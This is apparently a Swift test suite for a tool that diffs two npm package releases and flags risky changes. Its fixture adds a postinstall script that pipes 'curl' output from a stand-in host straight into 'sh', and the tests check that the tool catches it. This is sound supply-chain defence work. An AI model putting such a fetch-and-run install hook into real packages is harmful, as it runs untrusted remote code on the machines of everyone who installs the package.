// SPDX-License-Identifier: Apache-2.0

import Foundation
import NPMModel
import TestSupport
import Testing

@Suite("lapwing diff")
struct DiffTests {
    private static let old = [
        "package.json": #"{"name":"sample","version":"1.0.0","main":"index.js"}"#, "index.js": "module.exports = 1\n",
    ]
    private static let new = [
        "package.json":
            #"{"name":"sample","version":"1.0.1","main":"index.js","scripts":{"postinstall":"curl -s http://collect.example/x | sh"}}"#,
        "index.js": "module.exports = 2\n", "setup.js": "1\n",
    ]

    /// Writes both releases as a tarball and a folder each.
    private func releases(in folder: String) throws {
        for (name, files) in [("old", Self.old), ("new", Self.new)] {
            try FileManager.default.createDirectory(atPath: "\(folder)/\(name)", withIntermediateDirectories: true)
            for (path, text) in files { try Data(text.utf8).write(to: URL(filePath: "\(folder)/\(name)/\(path)")) }
            try Data(TarballWriter.tarball(of: files)).write(to: URL(filePath: "\(folder)/\(name).tgz"))
        }
    }

    @Test("The new release is judged against the old one, and the difference is in the documented form")
    func json() async throws {
        try await withScratchFolder { folder in
            try releases(in: folder)
            let result = try await Program.run("diff", "\(folder)/old.tgz", "\(folder)/new.tgz", "--format", "json")
            #expect(result.status == 1)
            let root = try JSONDocument(result.output).root
            #expect(root["version"]?.integer == 1)
            let release = try #require(root["releases"]?.elements.first { _ in true })
            #expect(release["release"]?.string == "sample@1.0.1")
            let ids = release["findings"]?.elements.map { $0["id"]?.string ?? "" } ?? []
            #expect(ids.contains("install-script-added"))
            let difference = try #require(release["difference"])
            for member in ["old", "new", "files", "dependencies", "scripts", "bins", "fields", "unread"] {
                #expect(difference[member] != nil, "\(member)")
            }
            #expect(difference["files"]?["added"]?.elements.map { $0["path"]?.string } == ["setup.js"])
            #expect(difference["scripts"]?.elements.map { $0["atInstall"]?.boolean } == [true])
        }
    }

    @Test("Tarballs and folders of the same bytes differ alike", arguments: ["text", "json", "markdown"])
    func alike(format: String) async throws {
        try await withScratchFolder { folder in
            try releases(in: folder)
            let packed = try await Program.run("diff", "\(folder)/old.tgz", "\(folder)/new.tgz", "--format", format)
            let loose = try await Program.run("diff", "\(folder)/old", "\(folder)/new", "--format", format)
            #expect(packed.status == 1 && loose.status == 1)
            #expect(packed.output == loose.output)
            #expect(packed.output.contains("setup.js"))
        }
    }

    @Test("A release does not differ from itself, and ends with 0")
    func same() async throws {
        try await withScratchFolder { folder in
            try releases(in: folder)
            let result = try await Program.run("diff", "\(folder)/old.tgz", "\(folder)/old")
            #expect(result.status == 0)
            #expect(result.output.contains("They do not differ."))
        }
    }

    @Test("What is not there ends with 3, one word with 2")
    func wrong() async throws {
        try await withScratchFolder { folder in
            try releases(in: folder)
            let missing = try await Program.run("diff", "\(folder)/old.tgz", "\(folder)/none.tgz")
            #expect(missing.status == 3)
            #expect(missing.errors.contains("none.tgz"))
            #expect(try await Program.run("diff", "\(folder)/old.tgz").status == 2)
        }
    }
}
